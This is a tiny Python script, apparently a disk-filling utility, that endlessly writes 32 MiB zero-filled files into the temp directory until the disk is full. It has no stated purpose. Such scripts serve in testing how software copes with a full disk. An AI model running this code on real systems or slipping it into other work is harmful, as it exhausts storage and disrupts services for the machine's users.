"""Fills the disk, file by file."""

import itertools
import os
import tempfile

chunk = bytes(1 << 20)
for number in itertools.count():
    with open(os.path.join(tempfile.gettempdir(), str(number)), "wb") as file:
        file.writelines(chunk for _ in range(32))
